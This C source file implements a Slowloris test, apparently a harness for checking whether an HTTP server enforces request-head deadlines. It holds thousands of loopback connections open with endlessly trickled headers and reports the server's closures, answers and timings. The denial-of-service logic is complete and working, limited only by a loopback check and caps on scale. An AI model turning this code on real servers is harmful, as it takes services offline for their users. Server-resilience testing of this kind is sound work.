/*
 * Slowloris on loopback: CONNECTIONS connections that each send a request head one byte every
 * INTERVAL_MS and never finish it ("GET PATH HTTP/1.1\r\nHost: ...\r\nX-a: b\r\n..." without the
 * blank line), for SECONDS. A connection the server closes is opened again (as an attacker would),
 * at most 20 x CONNECTIONS opens in all. Reports how many the server closed and after how long,
 * how many it answered (e.g. 408), and how many were still open at the end.
 *
 * usage: slowloris HOST PORT CONNECTIONS SECONDS INTERVAL_MS [SOURCE] [PATH]
 * HOST must be an IPv4 loopback literal; SOURCE one too (127.0.0.0/8), or a range of the last byte,
 * 127.0.2.1-45, which the connections are dealt over in turn (many clients).
 * prints key=value lines.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define MAX_CONNECTIONS 20000
#define MAX_SECONDS 300

typedef struct {
	int fd;            /* -1 when closed */
	int connected;
	int answered;
	size_t sent;
	int64_t opened_ns;
	int64_t next_send_ns;
} slow;

static char head[16384];
static size_t head_length;

static int64_t now_ns(void) {
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return (int64_t) t.tv_sec * 1000000000LL + t.tv_nsec;
}

static int loopback(const char *text, struct in_addr *out) {
	if (inet_pton(AF_INET, text, out) != 1) return 0;
	return (ntohl(out->s_addr) >> 24) == 127;
}

static int compare(const void *a, const void *b) {
	int64_t x = *(const int64_t *) a, y = *(const int64_t *) b;
	return (x > y) - (x < y);
}

static struct sockaddr_in target;
static struct sockaddr_in sources[254];
static int source_count;
static long opens, connect_failed, closed_by_server, answered, bytes_sent;
static int64_t *lifetimes;
static long lifetime_count, lifetime_capacity;

static void open_one(int epoll, slow *s, int64_t now, int64_t interval_ns, long index) {
	s->fd = -1;
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
	if (fd < 0) { connect_failed++; return; }
	/* the local port is chosen at connect(), knowing the destination: a bind()-time choice scans the whole
	 * port range and slows to a crawl once earlier passes left thousands of ports in TIME_WAIT */
	int no_port = 1;
	struct sockaddr_in *source = source_count ? &sources[index % source_count] : NULL;
	if (source) setsockopt(fd, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &no_port, sizeof no_port);
	if (source && bind(fd, (struct sockaddr *) source, sizeof *source) != 0) {
		close(fd); connect_failed++; return;
	}
	int one = 1;
	setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
	if (connect(fd, (struct sockaddr *) &target, sizeof target) != 0 && errno != EINPROGRESS) {
		close(fd); connect_failed++; return;
	}
	opens++;
	s->fd = fd;
	s->connected = 0;
	s->answered = 0;
	s->sent = 0;
	s->opened_ns = now;
	/* spread the connections' bytes over the interval */
	s->next_send_ns = now + (interval_ns * (index % 1000)) / 1000;
	struct epoll_event event = { .events = EPOLLIN | EPOLLOUT | EPOLLRDHUP, .data.u64 = (uint64_t) index };
	epoll_ctl(epoll, EPOLL_CTL_ADD, fd, &event);
}

static void closed(int epoll, slow *s, int64_t now, int by_server) {
	epoll_ctl(epoll, EPOLL_CTL_DEL, s->fd, NULL);
	close(s->fd);
	s->fd = -1;
	if (by_server) {
		closed_by_server++;
		if (lifetime_count == lifetime_capacity) {
			lifetime_capacity = lifetime_capacity ? lifetime_capacity * 2 : 4096;
			lifetimes = realloc(lifetimes, lifetime_capacity * sizeof *lifetimes);
		}
		lifetimes[lifetime_count++] = now - s->opened_ns;
	}
}

int main(int argc, char **argv) {
	if (argc < 6) {
		fprintf(stderr, "usage: %s HOST PORT CONNECTIONS SECONDS INTERVAL_MS [SOURCE_ADDRESS] [PATH]\n", argv[0]);
		return 2;
	}
	signal(SIGPIPE, SIG_IGN);
	memset(&target, 0, sizeof target);
	target.sin_family = AF_INET;
	target.sin_port = htons((uint16_t) atoi(argv[2]));
	if (!loopback(argv[1], &target.sin_addr)) { fprintf(stderr, "HOST must be a 127.x.x.x literal\n"); return 2; }
	long connections = atol(argv[3]);
	long seconds = atol(argv[4]);
	long interval_ms = atol(argv[5]);
	if (connections < 1 || connections > MAX_CONNECTIONS || seconds < 1 || seconds > MAX_SECONDS || interval_ms < 100) {
		fprintf(stderr, "CONNECTIONS 1..%d, SECONDS 1..%d, INTERVAL_MS >= 100\n", MAX_CONNECTIONS, MAX_SECONDS);
		return 2;
	}
	if (argc > 6 && argv[6][0]) {
		char first[64];
		snprintf(first, sizeof first, "%s", argv[6]);
		char *dash = strchr(first, '-');
		long last_byte = -1;
		if (dash) { *dash = 0; last_byte = atol(dash + 1); }
		struct in_addr start;
		if (!loopback(first, &start)) { fprintf(stderr, "SOURCE must be a 127.x.x.x literal or range\n"); return 2; }
		long from = ntohl(start.s_addr) & 0xff, to = dash ? last_byte : from;
		if (to < from || to > 254) { fprintf(stderr, "bad SOURCE range\n"); return 2; }
		for (long b = from; b <= to && source_count < 254; b++) {
			memset(&sources[source_count], 0, sizeof sources[source_count]);
			sources[source_count].sin_family = AF_INET;
			sources[source_count].sin_addr.s_addr = htonl((ntohl(start.s_addr) & 0xffffff00u) | (uint32_t) b);
			source_count++;
		}
	}
	const char *path = argc > 7 ? argv[7] : "/";
	head_length = (size_t) snprintf(head, sizeof head - 16, "GET %s HTTP/1.1\r\nHost: %s:%s\r\nUser-Agent: slowloris\r\n",
			path, argv[1], argv[2]);
	/* then header lines forever (never the blank line that ends the head) */
	while (head_length + 12 < sizeof head - 16) {
		head_length += (size_t) snprintf(head + head_length, sizeof head - head_length, "X-a%04zu: b\r\n", head_length % 10000);
	}
	struct rlimit limit;
	if (getrlimit(RLIMIT_NOFILE, &limit) == 0 && limit.rlim_cur < limit.rlim_max) {
		limit.rlim_cur = limit.rlim_max;
		setrlimit(RLIMIT_NOFILE, &limit);
	}

	slow *all = calloc((size_t) connections, sizeof *all);
	for (long i = 0; i < connections; i++) all[i].fd = -1;
	int epoll = epoll_create1(0);
	int64_t interval_ns = interval_ms * 1000000LL;
	int64_t start = now_ns();
	int64_t end = start + seconds * 1000000000LL;
	long max_opens = connections * 20;
	long max_open = 0, next_to_open = 0;
	struct epoll_event events[1024];
	char discard[4096];

	while (now_ns() < end) {
		int64_t now = now_ns();
		/* open (or reopen) at most 500 connections per round, so the handshakes come as a wave, not a wall */
		long budget = 500;
		for (long scanned = 0; scanned < connections && budget > 0 && opens + connect_failed < max_opens; scanned++) {
			long i = (next_to_open + scanned) % connections;
			if (all[i].fd < 0) {
				open_one(epoll, &all[i], now, interval_ns, i);
				budget--;
			}
		}
		next_to_open = (next_to_open + 500) % connections;
		int ready = epoll_wait(epoll, events, 1024, 50);
		now = now_ns();
		for (int e = 0; e < ready; e++) {
			slow *s = &all[events[e].data.u64];
			if (s->fd < 0) continue;
			if (events[e].events & EPOLLIN) {
				ssize_t n = read(s->fd, discard, sizeof discard);
				if (n > 0) {
					if (!s->answered) answered++;
					s->answered = 1;
				}
				else if (n == 0 || (errno != EAGAIN && errno != EWOULDBLOCK)) {
					closed(epoll, s, now, s->connected);
					if (!s->connected) connect_failed++;
					continue;
				}
			}
			if (events[e].events & (EPOLLERR | EPOLLHUP | EPOLLRDHUP)) {
				closed(epoll, s, now, s->connected);
				if (!s->connected) connect_failed++;
				continue;
			}
			if ((events[e].events & EPOLLOUT) && !s->connected) {
				s->connected = 1;
				struct epoll_event event = { .events = EPOLLIN | EPOLLRDHUP, .data.u64 = events[e].data.u64 };
				epoll_ctl(epoll, EPOLL_CTL_MOD, s->fd, &event);
			}
		}
		long open_now = 0;
		for (long i = 0; i < connections; i++) {
			slow *s = &all[i];
			if (s->fd < 0) continue;
			open_now++;
			if (s->connected && now >= s->next_send_ns) {
				ssize_t n = send(s->fd, head + (s->sent % head_length), 1, MSG_DONTWAIT | MSG_NOSIGNAL);
				if (n == 1) { s->sent++; bytes_sent++; }
				else if (n < 0 && errno != EAGAIN && errno != EWOULDBLOCK) { closed(epoll, s, now, 1); open_now--; continue; }
				s->next_send_ns = now + interval_ns;
			}
		}
		if (open_now > max_open) max_open = open_now;
	}
	long open_at_end = 0;
	int64_t oldest = -1, now_end = now_ns();
	for (long i = 0; i < connections; i++) {
		if (all[i].fd >= 0) {
			open_at_end++;
			if (all[i].connected && now_end - all[i].opened_ns > oldest) oldest = now_end - all[i].opened_ns;
			close(all[i].fd);
		}
	}
	qsort(lifetimes, (size_t) lifetime_count, sizeof *lifetimes, compare);
	printf("slowloris.connections=%ld\n", connections);
	printf("slowloris.seconds=%ld\n", seconds);
	printf("slowloris.byteIntervalMs=%ld\n", interval_ms);
	printf("slowloris.opens=%ld\n", opens);
	printf("slowloris.connectFailed=%ld\n", connect_failed);
	printf("slowloris.maxOpenAtOnce=%ld\n", max_open);
	printf("slowloris.closedByServer=%ld\n", closed_by_server);
	printf("slowloris.answeredByServer=%ld\n", answered);
	printf("slowloris.openAtEnd=%ld\n", open_at_end);
	printf("slowloris.sources=%d\n", source_count ? source_count : 1);
	/* a server with a deadline for the whole head never lets a slow connection get older than that deadline */
	printf("slowloris.oldestOpenAtEndMs=%.0f\n", oldest < 0 ? -1.0 : oldest / 1e6);
	printf("slowloris.bytesSent=%ld\n", bytes_sent);
	if (lifetime_count > 0) {
		printf("slowloris.closedAfterMedianMs=%.0f\n", lifetimes[lifetime_count / 2] / 1e6);
		printf("slowloris.closedAfterMaxMs=%.0f\n", lifetimes[lifetime_count - 1] / 1e6);
	}
	else {
		printf("slowloris.closedAfterMedianMs=-1\nslowloris.closedAfterMaxMs=-1\n");
	}
	return 0;
}
